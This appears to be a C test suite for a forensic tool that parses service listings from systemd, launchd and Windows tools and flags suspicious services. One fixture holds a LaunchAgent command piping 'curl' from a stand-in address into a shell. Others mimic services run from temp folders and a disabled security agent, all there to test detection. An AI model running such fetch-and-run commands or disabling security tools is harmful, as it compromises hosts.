/* check_service_listings.c -- services as tools printed them: every form, against what the tool's host is. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "formats/listing/listing.h"
#include "formats/text/buffer.h"
#include "harness.h"
#include "make_hive.h"
#include "systemd_box.h"

/* A folder with a file of each form ---------------------------------------------------- */

/* `rows` is name|status|start_type|command of each row, in the order of the file. */
static const struct form {
    const char *file, *form, *text, *rows;
} forms[] = {
    {"systemctl_list-units.txt", "systemctl list-units",
     "  UNIT          LOAD      ACTIVE   SUB     DESCRIPTION\n"
     "  cron.service  loaded    active   running Regular background programs\n"
     "\xe2\x97\x8f evil.service  not-found failed   failed  evil.service\n"
     "\nLOAD   = Reflects whether the unit definition was properly loaded.\n"
     "2 loaded units listed.\n",
     "cron.service|RUNNING|NULL|NULL\nevil.service|FAILED|NULL|NULL"},
    {"bare_list-units.txt", "systemctl list-units",
     "cron.service loaded active running Regular background programs\n"
     "x.mount      loaded inactive dead  /x\n",
     "cron.service|RUNNING|NULL|NULL\nx.mount|STOPPED|NULL|NULL"},
    {"systemctl_list-unit-files.txt", "systemctl list-unit-files",
     "UNIT FILE       STATE    VENDOR PRESET\ncron.service    enabled  enabled\n"
     "auditd.service  masked   enabled\nx@.service      static   -\n\n3 unit files listed.\n",
     "cron.service|NULL|AUTO_START|NULL\nauditd.service|NULL|DISABLED|NULL\n"
     "x@.service|NULL|DEMAND_START|NULL"},
    {"old_list-unit-files.txt", "systemctl list-unit-files",
     "a.service    enabled\nb.service    disabled\nc.service    static\n",
     "a.service|NULL|AUTO_START|NULL\nb.service|NULL|DEMAND_START|NULL\n"
     "c.service|NULL|DEMAND_START|NULL"},
    {"systemctl_list-timers_--all.txt", "systemctl list-timers",
     "NEXT                        LEFT    LAST                        PASSED  UNIT     ACTIVATES\n"
     "Thu 2026-11-26 06:31:00 UTC 2h left Wed 2026-11-25 06:41:07 UTC 21h ago a.timer  a.service\n"
     "n/a                         n/a     n/a                         n/a     b.timer  b.service\n"
     "\n2 timers listed.\n",
     "a.service|NULL|NULL|NULL\nb.service|NULL|NULL|NULL"},
    {"show.txt", "systemctl show",
     "Type=simple\nMainPID=12\nExecStart={ path=/usr/sbin/cron ; argv[]=/usr/sbin/cron -f $A ; "
     "ignore_errors=no ; start_time=[n/a] ; stop_time=[n/a] ; pid=0 ; code=(null) ; status=0/0 }\n"
     "ExecStartEx={ path=/usr/sbin/cron ; argv[]=/usr/sbin/cron -f $A ; flags= ; "
     "start_time=[n/a] }\n"
     "Id=cron.service\nActiveState=active\nUnitFileState=enabled\n\n"
     "ExecStart={ path=/tmp/x ; argv[]=/tmp/x a;b ; ignore_errors=no ; start_time=[n/a] }\n"
     "ExecStart={ path=/bin/y ; argv[]=/bin/y ; ignore_errors=no ; start_time=[n/a] }\n"
     "Id=evil.service\nLoadState=loaded\nActiveState=inactive\n",
     "cron.service|RUNNING|AUTO_START|/usr/sbin/cron -f $A\n"
     "evil.service|STOPPED|NULL|/tmp/x a;b;/bin/y"},
    {"systemctl_status.txt", "systemctl status",
     "\xe2\x97\x8f ssh.service - OpenBSD Secure Shell server\n"
     "     Loaded: loaded (/usr/lib/systemd/system/ssh.service; enabled; preset: enabled)\n"
     "     Active: active (running) since Tue 2026-11-24 10:00:00 UTC; 3h ago\n"
     "   Main PID: 812 (sshd)\n\nNov 24 10:00:00 h systemd[1]: Started ssh.service.\n\n"
     "\xe2\x97\x8b apt.timer - x\n     Loaded: loaded (/usr/lib/systemd/system/apt.timer; "
     "disabled; "
     "preset: enabled)\n     Active: inactive (dead)\n",
     "ssh.service|RUNNING|AUTO_START|NULL\napt.timer|STOPPED|DEMAND_START|NULL"},
    {"units.json", "systemctl list-units",
     "[{\"unit\":\"cron.service\",\"load\":\"loaded\",\"active\":\"active\",\"sub\":\"running\","
     "\"description\":\"Cron\"},{\"unit\":\"b.service\",\"load\":\"loaded\",\"active\":\"failed\","
     "\"sub\":\"failed\",\"description\":\"B\"}]\n",
     "cron.service|RUNNING|NULL|NULL\nb.service|FAILED|NULL|NULL"},
    {"unit-files.ndjson", "systemctl list-unit-files",
     "{\"unit_file\":\"cron.service\",\"state\":\"enabled\",\"preset\":\"enabled\"}\n"
     "{\"unit_file\":\"b.service\",\"state\":\"masked\",\"preset\":null}\n",
     "cron.service|NULL|AUTO_START|NULL\nb.service|NULL|DISABLED|NULL"},
    {"launchctl_list.txt", "launchctl list",
     "PID\tStatus\tLabel\n-\t0\tcom.apple.a\n345\t0\tcom.example.b\n-\t-9\tcom.example.c d\n",
     "com.apple.a|STOPPED|NULL|NULL\ncom.example.b|RUNNING|NULL|NULL\n"
     "com.example.c d|STOPPED|NULL|NULL"},
    {"launchctl_list_b.txt", "launchctl list",
     "{\n\t\"LimitLoadToSessionType\" = \"Aqua\";\n\t\"Label\" = \"com.example.b\";\n"
     "\t\"LastExitStatus\" = 0;\n\t\"PID\" = 345;\n\t\"Program\" = \"/Users/x/.b\";\n"
     "\t\"ProgramArguments\" = (\n\t\t\"/Users/x/.b\";\n\t\t\"-a \\\" b\";\n\t);\n};\n",
     "com.example.b|RUNNING|NULL|NULL"},
    {"launchctl_print.txt", "launchctl print",
     "gui/501/com.example.b = {\n\tactive count = 1\n\tpath = "
     "/Users/x/Library/LaunchAgents/b.plist\n"
     "\ttype = LaunchAgent\n\tstate = running\n\n\tprogram = /Users/x/.b\n\targuments = {\n"
     "\t\t/Users/x/.b\n\t\t-c\n\t\techo {\n\t}\n\n\tenvironment = {\n\t\tA => b\n\t}\n\n\tpid = "
     "345\n"
     "\tlast exit code = (never exited)\n\n\tproperties = keepalive | runatload\n}\n"
     "system = {\n\ttype = system\n\tservices = {\n\t\t   123      - \tcom.apple.x\n"
     "\t\t     0   (pe) \tcom.apple.y\n\t}\n\n\tdisabled services = {\n"
     "\t\t\"com.apple.q\" => disabled\n\t\t\"com.ok\" => enabled\n\t}\n}\n",
     "com.example.b|RUNNING|AUTO_START|NULL\ncom.apple.x|RUNNING|NULL|NULL\n"
     "com.apple.y|STOPPED|NULL|NULL\ncom.apple.q|NULL|DISABLED|NULL\ncom.ok|NULL|NULL|NULL"},
    {"launchctl_print-disabled.txt", "launchctl print-disabled",
     "disabled services = {\n\t\"com.apple.q\" => true\n\t\"com.ok\" => false\n}\n",
     "com.apple.q|NULL|DISABLED|NULL\ncom.ok|NULL|NULL|NULL"},
    {"sc_query.txt", "sc query",
     "\nSERVICE_NAME: Spooler\nDISPLAY_NAME: Print Spooler\n"
     "        TYPE               : 110  WIN32_OWN_PROCESS  (interactive)\n"
     "        STATE              : 4  RUNNING\n"
     "                                (STOPPABLE, NOT_PAUSABLE, ACCEPTS_SHUTDOWN)\n"
     "        WIN32_EXIT_CODE    : 0  (0x0)\n        SERVICE_EXIT_CODE  : 0  (0x0)\n"
     "        CHECKPOINT         : 0x0\n        WAIT_HINT          : 0x0\n"
     "        PID                : 1234\n        FLAGS              :\n\n"
     "SERVICE_NAME: evil\nDISPLAY_NAME: evil\n        TYPE               : 10  WIN32_OWN_PROCESS\n"
     "        STATE              : 1  STOPPED\n",
     "Spooler|RUNNING|NULL|NULL\nevil|STOPPED|NULL|NULL"},
    {"sc_qc.txt", "sc qc",
     "[SC] QueryServiceConfig SUCCESS\n\nSERVICE_NAME: evil\n"
     "        TYPE               : 10  WIN32_OWN_PROCESS\n"
     "        START_TYPE         : 2   AUTO_START  (DELAYED)\n"
     "        ERROR_CONTROL      : 1   NORMAL\n"
     "        BINARY_PATH_NAME   : C:\\Users\\Public\\x.exe -k\n        LOAD_ORDER_GROUP   :\n"
     "        TAG                : 0\n        DISPLAY_NAME       : Evil: the service\n"
     "        DEPENDENCIES       : RPCSS\n                           : http\n"
     "        SERVICE_START_NAME : LocalSystem\n[SC] QueryServiceConfig SUCCESS\n\n"
     "SERVICE_NAME: b\n        TYPE               : 1  KERNEL_DRIVER\n"
     "        START_TYPE         : 0   BOOT_START\n        BINARY_PATH_NAME   : "
     "\\SystemRoot\\b.sys\n",
     "evil|NULL|AUTO_START|C:\\Users\\Public\\x.exe -k\nb|NULL|BOOT_START|\\SystemRoot\\b.sys"},
    {"reg_query.txt", "reg query",
     "\nHKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\evil\n"
     "    Type    REG_DWORD    0x10\n    Start    REG_DWORD    0x2\n"
     "    ImagePath    REG_EXPAND_SZ    C:\\Users\\Public\\x.exe -k\n"
     "    ObjectName    REG_SZ    LocalSystem\n\n"
     "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\evil\\Parameters\n"
     "    ServiceDll    REG_EXPAND_SZ    C:\\x.dll\n\n"
     "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\no service\n\n"
     "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\drv\n"
     "    Type    REG_DWORD    0x1\n    Start    REG_DWORD    0x4\n",
     "evil|NULL|AUTO_START|C:\\Users\\Public\\x.exe -k\ndrv|NULL|DISABLED|NULL"},
    {"services.reg", "registry export",
     "Windows Registry Editor Version 5.00\n\n"
     "[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\evil]\n\"Type\"=dword:00000010\n"
     "\"Start\"=dword:00000002\n\"ImagePath\"=hex(2):43,00,3a,00,5c,00,\\\n"
     "  78,00,2e,00,65,00,78,00,65,00,00,00\n\"DisplayName\"=\"a \\\"b\\\" \\\\c\"\n"
     "\"ImagePath2\"=-\n\n"
     "[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\evil\\Security]\n"
     "\"Security\"=hex:01,00,\\\n  14,80\n\n[-HKEY_LOCAL_MACHINE\\SYSTEM\\x\\Services\\gone]\n"
     "[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\z]\n\"Type\"=dword:00000020\n"
     "\"Start\"=dword:00000004\n\"ImagePath\"=\"C:\\\\z.exe\"\n",
     "evil|NULL|AUTO_START|C:\\x.exe\nz|NULL|DISABLED|C:\\z.exe"},
    {"Get-Service_fl.txt", "Get-Service",
     "\nName                : Spooler\nRequiredServices    : {RPCSS, http}\n"
     "CanPauseAndContinue : False\nDisplayName         : Print Spooler\nMachineName         : .\n"
     "Status              : Running\nServicesDependedOn  : {RPCSS, http}\n"
     "ServiceType         : Win32OwnProcess, InteractiveProcess\nStartType           : "
     "Automatic\n\n"
     "Name                : evil\nDisplayName         : Evil\nStatus              : Stopped\n"
     "StartType           : Manual\n\n",
     "Spooler|RUNNING|AUTO_START|NULL\nevil|STOPPED|DEMAND_START|NULL"},
    {"Get-Service.txt", "Get-Service",
     "\nStatus   Name               DisplayName\n------   ----               -----------\n"
     "Running  Appinfo            Application Information\n"
     "Stopped  \xc3\xa9vil               \xc3\x89vil\n\n",
     "Appinfo|RUNNING|NULL|NULL\n\xc3\xa9vil|STOPPED|NULL|NULL"},
    {"Win32_Service.txt", "Win32_Service",
     "\nPSComputerName : WS01\nName           : evil\nStatus         : OK\n"
     "PathName       : \"C:\\Program Files\\long \n                 folder\\b.exe\" -a\n"
     "StartMode      : Auto\nStartName      : LocalSystem\nState          : Running\n"
     "ProcessId      : 77\n\nName      : b\nStartMode : Disabled\nState     : Stopped\n",
     "evil|RUNNING|AUTO_START|\"C:\\Program Files\\long folder\\b.exe\" "
     "-a\nb|STOPPED|DISABLED|NULL"},
    {"Win32_Service_table.txt", "Win32_Service",
     "\nProcessId Name      StartMode State   Status ExitCode\n"
     "--------- ----      --------- -----   ------ --------\n"
     "     1234 Spooler   Auto      Running OK            0\n"
     "        0 evil      Manual    Stopped OK         1077\n\n",
     "Spooler|RUNNING|AUTO_START|NULL\nevil|STOPPED|DEMAND_START|NULL"},
    {"Win32_Service.csv", "Win32_Service",
     "#TYPE Microsoft.Management.Infrastructure.CimInstance#root/cimv2/Win32_Service\n"
     "\"Name\",\"DisplayName\",\"PathName\",\"StartMode\",\"StartName\",\"State\",\"ProcessId\"\n"
     "\"evil\",\"Evil\",\"C:\\x.exe -k \"\"q\"\"\",\"Auto\",\"LocalSystem\",\"Running\",\"77\"\n",
     "evil|RUNNING|AUTO_START|C:\\x.exe -k \"q\""},
    {"Win32_Service.json", "Win32_Service",
     "[\n    {\n        \"Name\":  \"evil\",\n        \"StartMode\":  \"Auto\",\n"
     "        \"PathName\":  \"C:\\\\x.exe -k\",\n        \"State\":  \"Running\",\n"
     "        \"Status\":  \"OK\",\n        \"ProcessId\":  77\n    }\n]\n",
     "evil|RUNNING|AUTO_START|C:\\x.exe -k"},
    {"Get-Service.json", "Get-Service",
     "[{\"Name\":\"evil\",\"Status\":4,\"StartType\":2,\"ServiceType\":16},"
     "{\"Name\":\"b\",\"Status\":{\"value\":1,\"Value\":\"Stopped\"},\"StartType\":3}]",
     "evil|RUNNING|AUTO_START|NULL\nb|STOPPED|DEMAND_START|NULL"},
    {"wmic_service_list_full.txt", "wmic service",
     "\n\nAcceptPause=FALSE\nDisplayName=Evil\nName=evil\nPathName=C:\\x.exe -k\nProcessId=77\n"
     "StartMode=Auto\nState=Running\n\n\nAcceptPause=FALSE\nDisplayName=B\nName=b\n"
     "PathName=C:\\b.exe\nStartMode=Manual\nState=Stopped\n\n",
     "evil|RUNNING|AUTO_START|C:\\x.exe -k\nb|STOPPED|DEMAND_START|C:\\b.exe"},
    {"wmic_service_get.txt", "Win32_Service",
     "DisplayName    Name   PathName            StartMode  \n"
     "Evil thing     evil   C:\\a b\\x.exe -k     Auto       \n"
     "B              b      C:\\b.exe            Manual     \n",
     "evil|NULL|AUTO_START|C:\\a b\\x.exe -k\nb|NULL|DEMAND_START|C:\\b.exe"},
    {"autoruns.csv", "autorunsc",
     "Time,Entry Location,Entry,Enabled,Category,Profile,Description,Company,Image Path,Version,"
     "Launch String\n"
     "t,\"HKLM\\System\\CurrentControlSet\\Services\",\"\",,,,,,,,\n"
     "t,HKLM\\System\\CurrentControlSet\\Services,evil,enabled,Services,System-wide,Evil,,"
     "c:\\x.exe,,C:\\x.exe -k\n"
     "t,HKLM\\System\\CurrentControlSet\\Services,drv,disabled,Drivers,System-wide,D,,c:\\d.sys,,\n"
     "t,HKLM\\Software\\Run,r,enabled,Logon,System-wide,,,c:\\r.exe,,r.exe\n",
     "evil|NULL|NULL|C:\\x.exe -k\ndrv|NULL|DISABLED|c:\\d.sys"},
    {"Windows.System.Services.json", "Win32_Service",
     "{\"State\":\"Running\",\"Name\":\"evil\",\"DisplayName\":\"E\",\"Status\":\"OK\",\"Pid\":77,"
     "\"ExitCode\":0,\"StartMode\":\"Auto\",\"PathName\":\"C:\\\\x.exe -k\",\"ServiceType\":"
     "\"Own "
     "Process\",\"UserAccount\":\"LocalSystem\",\"ServiceDll\":null,\"FailureCommand\":\"\"}\n",
     "evil|RUNNING|AUTO_START|C:\\x.exe -k"},
    {"osquery_services.json", "osquery services",
     "[{\"name\":\"evil\",\"service_type\":\"OWN_PROCESS\",\"display_name\":\"E\",\"status\":"
     "\"RUNNING\",\"pid\":\"77\",\"start_type\":\"AUTO_START\",\"path\":\"C:\\\\x.exe -k\","
     "\"user_account\":\"LocalSystem\"}]",
     "evil|RUNNING|AUTO_START|C:\\x.exe -k"},
    {"osquery_launchd.json", "osquery launchd",
     "{\"name\":\"pack\",\"hostIdentifier\":\"m1\",\"columns\":{\"path\":"
     "\"/Library/LaunchDaemons/com.a.plist\",\"label\":\"com.a\",\"program\":\"\","
     "\"program_arguments\":\"/x -a\",\"run_at_load\":\"1\"},\"action\":\"added\"}\n",
     "com.a|NULL|NULL|/x -a"},
    {"osquery_units.json", "osquery systemd_units",
     "[{\"id\":\"cron.service\",\"load_state\":\"loaded\",\"active_state\":\"active\","
     "\"unit_file_state\":\"enabled\",\"fragment_path\":\"/lib/systemd/system/cron.service\","
     "\"user\":\"\"}]",
     "cron.service|RUNNING|AUTO_START|NULL"},
};

#define N_FORMS (sizeof forms / sizeof forms[0])

/* Not of any form, though they speak of services. */
static const char *const strangers[][2] = {
    {"notes.txt", "Run systemctl list-units. x.service is enabled.\nId=3\n{\n a = {\n}\nName=x\n"},
    {"todo.csv", "Name,Date\nSpooler,1\n"},
    {"x.json", "{\"Name\":\"evil\",\"a\":1}\n"},
    {"code.txt", "int main(void)\n{\n    return 0;\n}\n"},
    {"app.log", "Name     : evil\nStatus: ok\n2026-01-01 x.service started\n"},
};

enum writing { PLAIN, CRLF, WIDE, WIDE_BIG, MARKED, WRITINGS };

/* The text as another program writes it; the caller frees it. */
static char *rewrite(const char *text, enum writing writing, size_t *ret_size)
{
    struct buffer out = {0};

    if (writing == WIDE)
        buffer_put(&out, "\xff\xfe", 2);
    if (writing == WIDE_BIG)
        buffer_put(&out, "\xfe\xff", 2);
    if (writing == MARKED)
        buffer_puts(&out, "\xef\xbb\xbf");
    for (const unsigned char *at = (const unsigned char *)text; *at;) {
        uint32_t c = *at++;
        if (writing != PLAIN && c == '\n' && writing != MARKED)
            buffer_put(&out,
                       writing == CRLF   ? "\r"
                       : writing == WIDE ? "\r\0"
                                         : "\0\r",
                       writing == CRLF ? 1 : 2);
        if (writing != WIDE && writing != WIDE_BIG) {
            buffer_putc(&out, (char)c);
            continue;
        }
        int more = c >= 0xe0 ? 2 : c >= 0xc0 ? 1 : 0;
        c = more == 2 ? c & 0xf : more ? c & 0x1f : c;
        while (more--)
            c = c << 6 | (*at++ & 0x3f);
        char units[2] = {(char)c, (char)(c >> 8)};
        char big[2] = {units[1], units[0]};
        buffer_put(&out, writing == WIDE ? units : big, 2);
    }
    *ret_size = out.size;
    return out.data;
}

START_TEST(every_form_is_read_however_it_is_written)
{
    sqlite3    *db = harness_open();
    const char *dir = harness_scratch();

    for (size_t i = 0; i < N_FORMS; i++) {
        size_t size;
        char  *text = rewrite(forms[i].text, (enum writing)_i, &size);
        harness_write(dir, forms[i].file, text, size);
        free(text);
    }
    for (size_t i = 0; i < sizeof strangers / sizeof strangers[0]; i++)
        harness_write_text(dir, strangers[i][0], strangers[i][1]);
    harness_query(db, "INSERT INTO evidence(location) VALUES ('%s')", dir);
    for (size_t i = 0; i < N_FORMS; i++) {
        harness_expect(db, forms[i].rows,
                       "SELECT name, status, start_type, replace(command, char(10), ';') "
                       "FROM service_listings WHERE source = '%s/%s'",
                       dir, forms[i].file);
        ck_assert_msg(
            harness_int(
                db, "SELECT count(*) FROM service_listings WHERE source = '%s/%s' AND form = '%s'",
                dir, forms[i].file, forms[i].form) > 0,
            "%s: another form", forms[i].file);
        harness_expect(db, "service_listings|read|0",
                       "SELECT table_name, status, skipped FROM evidence_sources "
                       "WHERE location = '%s/%s'",
                       dir, forms[i].file);
    }
    for (size_t i = 0; i < sizeof strangers / sizeof strangers[0]; i++)
        harness_expect(db, "unknown",
                       "SELECT status FROM evidence_sources WHERE location = '%s/%s'", dir,
                       strangers[i][0]);
    harness_close(db);
}
END_TEST

/* A collector's script writes several commands into one file, with words between. */
START_TEST(several_commands_in_one_file_are_told_apart)
{
    sqlite3      *db = harness_open();
    const char   *dir = harness_scratch();
    struct buffer all = {0};
    size_t        n = 0;

    for (size_t i = 0; i < N_FORMS; i++) {
        const char *file = forms[i].file, *dot = strrchr(file, '.');
        if (strcmp(dot, ".txt") != 0 || strncmp(file, "old_", 4) == 0)
            continue;
        buffer_printf(&all, "##### %s\n%s\n", file, forms[i].text);
        for (const char *at = forms[i].rows; at; at = strchr(at, '\n'), at += at != NULL)
            n++;
    }
    harness_write(dir, "live.txt", all.data, all.size);
    buffer_free(&all);
    ck_assert_int_eq(harness_int(db, "SELECT count(*) FROM service_listings('%s/live.txt')", dir),
                     (int64_t)n);
    harness_close(db);
}
END_TEST

/* What the view of all services shows, and what is judged. */
START_TEST(listed_services_are_judged_as_others)
{
    sqlite3    *db = harness_open();
    const char *dir = harness_scratch();

    harness_write_text(dir, "sc.txt",
                       "SERVICE_NAME: evil\n        TYPE               : 10  WIN32_OWN_PROCESS\n"
                       "        START_TYPE         : 2   AUTO_START\n"
                       "        BINARY_PATH_NAME   : C:\\Users\\Public\\x.exe\n"
                       "        SERVICE_START_NAME : LocalSystem\n");
    harness_write_text(dir, "show.txt",
                       "ExecStart={ path=/tmp/x ; argv[]=/tmp/x -a ; ignore_errors=no ; "
                       "start_time=[n/a] }\nId=evil.service\nLoadState=loaded\n"
                       "FragmentPath=/etc/systemd/system/evil.service\n");
    harness_write_text(
        dir, "print.txt",
        "gui/501/com.evil = {\n\tpath = /Users/a/Library/LaunchAgents/com.evil.plist\n"
        "\tprogram = /bin/sh\n\targuments = {\n\t\t/bin/sh\n\t\t-c\n"
        "\t\tcurl http://192.0.2.1/x | sh\n\t}\n}\n");
    harness_write_text(dir, "disabled.txt",
                       "\tdisabled services = {\n\t\t\"com.apple.security.syspolicy\" => disabled\n"
                       "\t\t\"com.crowdstrike.falcond\" => disabled\n\t}\n");
    harness_query(db, "DELETE FROM evidence; INSERT INTO evidence(location) VALUES ('%s')", dir);
    harness_expect(db,
                   "windows|evil|C:\\Users\\Public\\x.exe|LocalSystem|AUTO_START\n"
                   "linux|evil.service|/tmp/x|NULL|NULL\nmacos|com.evil|/bin/sh|NULL|NULL",
                   "SELECT platform, name, path, user_account, start_type FROM services "
                   "WHERE name LIKE '%%evil%%' ORDER BY platform = 'windows' DESC, platform");
    harness_expect(db, "1",
                   "SELECT count(*) FROM findings WHERE severity IN ('medium', 'high', 'critical') "
                   "AND subject LIKE '%%\\Services\\evil' AND source LIKE '%%/sc.txt'");
    harness_expect(db, "1",
                   "SELECT count(*) FROM findings WHERE severity IN ('high', 'critical') "
                   "AND subject = '/etc/systemd/system/evil.service' "
                   "AND signals LIKE '%%runs_from_temp%%'");
    harness_expect(db, "1",
                   "SELECT count(*) FROM findings WHERE severity IN ('high', 'critical') "
                   "AND subject = '/Users/a/Library/LaunchAgents/com.evil.plist' "
                   "AND signals LIKE '%%pipe_to_shell%%'");
    harness_expect(db, "1",
                   "SELECT count(*) FROM findings WHERE subject = 'com.crowdstrike.falcond' "
                   "AND signals LIKE '%%stops_security%%'");
    harness_close(db);
}
END_TEST

START_TEST(what_is_not_understood_is_counted)
{
    sqlite3    *db = harness_open();
    const char *dir = harness_scratch();

    harness_write_text(dir, "sc.txt",
                       "NOM_SERVICE: Spooler\n        TYPE               : 10  WIN32_OWN_PROCESS\n"
                       "        \xc3\x89TAT               : 4  RUNNING\n");
    harness_write_text(dir, "cut.txt",
                       "\nStatus   Name               DisplayName\n------   ----               "
                       "-----------\nRunning  Appinfo            Application Information\n"
                       "Stopped  VeryLongNameOfA... Cut\n");
    harness_query(db, "INSERT INTO evidence(location) VALUES ('%s')", dir);
    harness_query(db, "SELECT * FROM service_listings");
    harness_expect(db, "damaged|0|2|2 lines in another language than English",
                   "SELECT status, records, skipped, detail FROM evidence_sources "
                   "WHERE location = '%s/sc.txt'",
                   dir);
    harness_expect(db, "damaged|1|1|1 records that could not be read whole",
                   "SELECT status, records, skipped, detail FROM evidence_sources "
                   "WHERE location = '%s/cut.txt'",
                   dir);
    harness_close(db);
}
END_TEST

/* Oracles ------------------------------------------------------------------------------- */

/* A real manager's own words, and the tables that ask it and read its files. */
START_TEST(systemctl_says_what_the_tables_do)
{
    ENTER();
    systemd_shell(
        "printf '[Unit]\\nDescription=The evil one\\n[Service]\\nUser=tester\\n"
        "ExecStart=/bin/sleep 1000\\nExecStop=/bin/true \"a b\"\\n[Install]\\n"
        "WantedBy=multi-user.target\\n' > /etc/systemd/system/evil.service; "
        "systemctl daemon-reload; systemctl -q enable --now evil.service; mkdir -p %s/said",
        box);
    systemd_shell("cd %s/said; systemctl list-units --all > list-units.txt; "
                  "systemctl list-units --all --output=json > list-units.json; "
                  "systemctl list-unit-files > list-unit-files.txt; "
                  "systemctl list-unit-files --output=json > list-unit-files.json; "
                  "systemctl show '*' > show.txt; systemctl list-timers --all > timers.txt; "
                  "systemctl status --no-pager '*.service' > status.txt || :",
                  box);
    sqlite3 *db = harness_open();
    for (int json = 0; json < 2; json++) {
        const char *end = json ? "json" : "txt";
        harness_expect(
            db, "0|0",
            "SELECT (SELECT count(*) FROM (SELECT id, CASE active_state WHEN 'active' "
            "THEN 'RUNNING' WHEN 'inactive' THEN 'STOPPED' ELSE upper(active_state) END, "
            "load_state FROM systemd_units WHERE scope = 'system' "
            "EXCEPT SELECT name COLLATE BINARY, status, load_state "
            "FROM service_listings('%s/said/list-units.%s'))), (SELECT count(*) FROM "
            "(SELECT name COLLATE BINARY FROM service_listings('%s/said/list-units.%s') "
            "EXCEPT SELECT id FROM systemd_units))",
            box, end, box, end);
        harness_expect(db, "evil.service|enabled|AUTO_START",
                       "SELECT name, state, start_type FROM "
                       "service_listings('%s/said/list-unit-files.%s') WHERE name = 'evil.service'",
                       box, end);
        ck_assert_int_eq(
            harness_int(db, "SELECT count(*) FROM service_listings('%s/said/list-unit-files.%s')",
                        box, end),
            harness_int(db, "SELECT count(*) FROM service_listings('%s/said/list-unit-files.txt')",
                        box));
    }
    harness_expect(
        db, "0",
        "SELECT count(*) FROM (SELECT id, load_state, nullif(fragment_path, ''), "
        "nullif(unit_file_state, ''), nullif(main_pid, 0) FROM systemd_units WHERE scope = "
        "'system' AND active_state = 'active' AND type = 'service' EXCEPT SELECT name COLLATE "
        "BINARY, load_state, "
        "definition COLLATE BINARY, state, pid FROM service_listings('%s/said/show.txt'))",
        box);
    harness_expect(db, "tester|/bin/sleep 1000|/bin/sleep|The evil one|RUNNING|2",
                   "SELECT user_account, command, program, description, status, "
                   "json_array_length(commands) FROM service_listings('%s/said/show.txt') "
                   "WHERE name = 'evil.service'",
                   box);
    harness_expect(db, "RUNNING|enabled|/etc/systemd/system/evil.service|The evil one",
                   "SELECT status, state, definition, description FROM "
                   "service_listings('%s/said/status.txt') WHERE name = 'evil.service'",
                   box);
    harness_close(db);
}
END_TEST

/* The same keys in a hive, in a text of reg query and in a .reg file. */
START_TEST(reg_says_what_the_hive_does)
{
    sqlite3          *db = harness_open();
    const char       *dir = harness_scratch();
    struct made_hive *hive = make_hive();
    struct buffer     query = {0}, file = {0};

    buffer_puts(&file, "Windows Registry Editor Version 5.00\n\n");
    make_hive_dword(make_hive_key(hive, "Select"), "Current", 1);
    for (unsigned i = 0; i < 40; i++) {
        static const uint32_t types[] = {0x1, 0x2, 0x10, 0x20, 0x110};
        char                  path[64], image[64];
        snprintf(path, sizeof path, "ControlSet001\\Services\\svc%u", i);
        snprintf(image, sizeof image, "C:\\Program Files\\s%u\\s.exe -k", i);
        struct made_key *key = make_hive_key(hive, path);
        make_hive_dword(key, "Type", types[i % 5]);
        make_hive_dword(key, "Start", i % 5);
        make_hive_expand(key, "ImagePath", image);
        make_hive_string(key, "ObjectName", i % 2 ? "LocalSystem" : "NT AUTHORITY\\NetworkService");
        buffer_printf(
            &query,
            "\nHKEY_LOCAL_MACHINE\\SYSTEM\\%s\n    Type    REG_DWORD    0x%x\n    Start    "
            "REG_DWORD    0x%x\n    ImagePath    REG_EXPAND_SZ    %s\n    ObjectName    "
            "REG_SZ    %s\n",
            path, types[i % 5], i % 5, image,
            i % 2 ? "LocalSystem" : "NT AUTHORITY\\NetworkService");
        buffer_printf(
            &file,
            "[HKEY_LOCAL_MACHINE\\SYSTEM\\%s]\n\"Type\"=dword:%08x\n\"Start\"=dword:%08x\n"
            "\"ObjectName\"=\"%s\"\n\"ImagePath\"=hex(2):",
            path, types[i % 5], i % 5, i % 2 ? "LocalSystem" : "NT AUTHORITY\\\\NetworkService");
        for (const char *at = image; *at; at++)
            buffer_printf(&file, "%02x,00,%s", (unsigned char)*at, at[1] == 's' ? "\\\n  " : "");
        buffer_puts(&file, "00,00\n\n");
    }
    make_hive_file(hive, dir, "SYSTEM");
    make_hive_free(hive);
    harness_write(dir, "query.txt", query.data, query.size);
    harness_write(dir, "export.reg", file.data, file.size);
    buffer_free(&query);
    buffer_free(&file);
    for (int export = 0; export < 2; export ++)
        harness_expect(
            db, "40|0",
            "SELECT count(*), (SELECT count(*) FROM (SELECT name, service_type, start_type, "
            "image_path, object_name FROM registry_services('%s/SYSTEM') EXCEPT SELECT "
            "name, service_type, start_type, command, user_account FROM "
            "service_listings('%s/%s'))) FROM registry_services('%s/SYSTEM')",
            dir, dir, export ? "export.reg" : "query.txt", dir);
    harness_close(db);
}
END_TEST

/* A listing of a host whose disk is at hand adds rows, but judges what differs only. */
START_TEST(what_the_disk_says_too_is_judged_once)
{
    sqlite3          *db = harness_open();
    const char       *dir = harness_scratch();
    struct made_hive *hive = make_hive();
    struct made_key  *key = make_hive_key(hive, "ControlSet001\\Services\\evil");

    make_hive_dword(make_hive_key(hive, "Select"), "Current", 1);
    make_hive_dword(key, "Type", 0x10);
    make_hive_dword(key, "Start", 2);
    make_hive_expand(key, "ImagePath", "C:\\Users\\Public\\x.exe");
    make_hive_file(hive, dir, "SYSTEM");
    make_hive_free(hive);
    harness_write_text(
        dir, "sc.txt",
        "SERVICE_NAME: evil\n        BINARY_PATH_NAME   : C:\\Users\\Public\\x.exe\n"
        "SERVICE_NAME: other\n        BINARY_PATH_NAME   : C:\\Users\\Public\\y.exe\n");
    harness_query(db, "DELETE FROM evidence; INSERT INTO evidence(location) VALUES ('%s')", dir);
    harness_expect(db, "SYSTEM|sc.txt",
                   "SELECT group_concat(replace(source, '%s/', ''), '|') FROM (SELECT source FROM "
                   "services WHERE name = 'evil' ORDER BY source)",
                   dir);
    harness_expect(db, "SYSTEM\nsc.txt",
                   "SELECT replace(source, '%s/', '') FROM findings WHERE subject LIKE "
                   "'%%\\Services\\%%' ORDER BY 1",
                   dir);
    harness_close(db);
}
END_TEST

/* Bytes cut anywhere end in what was before, and in no harm. */
